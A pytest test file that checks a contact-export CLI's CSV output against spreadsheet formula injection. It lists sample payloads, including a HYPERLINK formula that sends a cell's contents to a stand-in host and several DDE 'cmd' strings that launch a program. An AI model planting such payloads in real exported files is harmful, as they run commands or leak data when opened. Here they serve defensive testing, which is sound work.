"""T13: a cell is run as a formula by a spreadsheet."""

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dexcli.formats import formulas
from tests.commands.conftest import Write
from tests.conftest import Dexcli

FORMULAS = (
    '=HYPERLINK("http://example.org/?"&A1)',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "'=1+1",
    "+44 20 7946 0958+cmd|' /C calc'!A0",
    "+44 20; =1+1",
    "＝1+1",
)
NOTHING_BUT_PHONES = re.compile(r"[+\d ().\-/;]+")
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def runs(cell: str) -> bool:
    """Return whether a spreadsheet may take a cell for a formula that calls something."""
    return cell.startswith(STARTS) and NOTHING_BUT_PHONES.fullmatch(cell) is None


@pytest.mark.parametrize("options", [[], ["--notes"], ["--excel", "--notes"]])
@pytest.mark.parametrize("text", FORMULAS)
def test_t13_no_cell_of_an_export_is_run(
    dexcli: Dexcli, write: Write, text: str, options: list[str]
) -> None:
    value = '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t") + '"'
    write(
        "x",
        f"name = {value}\naka = [{value}]\ntags = [{value}]\nphones = [{value}]\norg = {value}\n"
        f"accounts = {{ {value} = {value} }}\nnotes = {value}\n{value} = {value}\n"
        f"\n[[interactions]]\non = 2026-11-20\nnote = {value}\n",
    )

    result = dexcli("export", "csv", *options)

    assert (result.exit_code, result.stderr) == (0, "")
    text_ = result.stdout.removeprefix("\ufeff")
    delimiter = ";" if "--excel" in options else ","
    rows = list(csv.reader(io.StringIO(text_, newline=""), delimiter=delimiter))
    assert len(rows) == 2
    assert [cell for row in rows for cell in row if runs(cell)] == []


@pytest.mark.parametrize(
    "phones",
    ["+44 20 7946 0958", "+33612345678", "+1 (555) 010-9999; +44 20 7946 0958", "020 7946 0958"],
)
def test_t13_a_phone_number_stays_as_it_is(dexcli: Dexcli, write: Write, phones: str) -> None:
    items = ", ".join(f'"{each}"' for each in phones.split("; "))
    write("x", f'name = "X"\nphones = [{items}]\n')

    (row,) = csv.DictReader(io.StringIO(dexcli("export", "csv").stdout))

    assert row["phones"] == phones


@given(st.text(alphabet="=+-@'\t\r\n＝ 1a()", max_size=6))
def test_t13_the_guard_comes_off_again(text: str) -> None:
    guarded = formulas.guarded(text)

    assert not runs(guarded)
    assert formulas.bare(guarded) == text
